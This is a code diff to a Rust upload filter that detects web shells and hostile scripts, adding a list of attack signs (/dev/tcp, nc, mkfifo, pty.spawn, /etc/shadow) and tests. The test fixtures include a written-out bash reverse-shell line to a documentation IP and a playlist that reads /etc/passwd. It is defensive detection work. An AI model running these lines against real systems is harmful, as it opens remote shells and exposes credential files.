@@ -29,8 +29,6 @@ const RUNS: &[&[u8]] = &[
     b"cer",
     b"war",
     b"pl",
-    b"sh",
-    b"bash",
     b"exe",
     b"dll",
     b"bat",
@@ -109,12 +107,10 @@ const STARTS: &[&[u8]] = &[
     b"<cfexecute",
     b"<script language=\"php",
     b"<script runat",
-    b"#!/bin/",
     b"#!/usr/bin/perl",
     b"#!/usr/bin/php",
     b"#!/usr/bin/env perl",
     b"#!/usr/bin/env php",
-    b"#!/usr/bin/env bash",
     b"push graphic-context",
 ];
 /// How files begin that hold no text: pictures, sound, archives, documents.
@@ -219,12 +215,35 @@ fn hidden(body: &[u8]) -> Option<&'static [u8]> {
     })
 }
 
+/// What a script does in attacks.
+const SCRIPT_SIGNS: &[&[u8]] = &[
+    b"os.system(\"id",
+    b"os.system('id",
+    b"pty.spawn",
+    b"/dev/tcp",
+    b"|sh",
+    b"| sh",
+    b"|bash",
+    b"| bash",
+    b"\nid\n",
+    b"whoami",
+    b"$query_string",
+    b"/etc/passwd",
+    b"/etc/shadow",
+    b"nc -",
+    b"base64 -d",
+    b"content-type:",
+    b"mkfifo",
+];
+
 /// Text that makes a converter read or run what it names: play lists, `PostScript`; and a server's
 /// handlers. Markup that acts is read as markup elsewhere.
 fn acting(body: &[u8]) -> Option<&'static [u8]> {
     let signs: &[&[u8]] = match at(body, 0) {
-        b'#' if body.starts_with(b"#!") => &[b"os.system(\"id", b"os.system('id", b"pty.spawn"],
         b'#' if body.starts_with(b"#extm3u") => &[b"file:///", b"concat:"],
+        // No server runs a shell's script by its name; what attacks do in one, they do.
+        b'#' if body.starts_with(b"#!") && body.ends_with(b"\nid") => &[b"\nid"],
+        b'#' if body.starts_with(b"#!") => SCRIPT_SIGNS,
         b'%' if body.starts_with(b"%!ps") => &[b"%pipe%"],
         b'<' => &[b"scriptprocessor=", b"sethandler application/x-httpd"],
         b'a' if body.starts_with(b"addtype application/x-httpd") => &[b"addtype"],
@@ -273,6 +292,7 @@ mod tests {
             "o'brien (1).docx",
             "rp$100.xlsx",
             "notes.shape.txt",
+            "backup.sh",
         ] {
             assert!(!is_found(Part::FileName, honest.as_bytes()), "{honest}");
         }
@@ -287,6 +307,8 @@ mod tests {
             b"\xff\xd8\xff\xe0\0\x10jfif<?=`$_get[0]`?>",
             b"<%@ page language=\"java\"%>",
             b"#!/bin/sh\nid",
+            b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+            b"#!/bin/sh\necho content-type: text/html",
             b"push graphic-context\nfill 'url(https://x)'",
             b"#extm3u\nconcat:http://x|file:///etc/passwd",
         ] {
@@ -300,6 +322,7 @@ mod tests {
             &b"# read me\n\n```php\n<?php echo 1; ?>\n```"[..],
             b"use `<script src=\"x\">` in your page",
             b"#!/usr/bin/env python3\nprint(1)",
+            b"#!/bin/bash\nset -e\ntar czf /tmp/b.tgz \"$home\"\n",
             b"<html><head><script src=\"a.js\"></script>",
             b"<!doctype svg [<!entity ns \"http://ns.adobe.com/x/\">]><svg><text>on a=b</text></svg>",
             b"\x89png\r\n\x1a\n\0\0<%\x01",
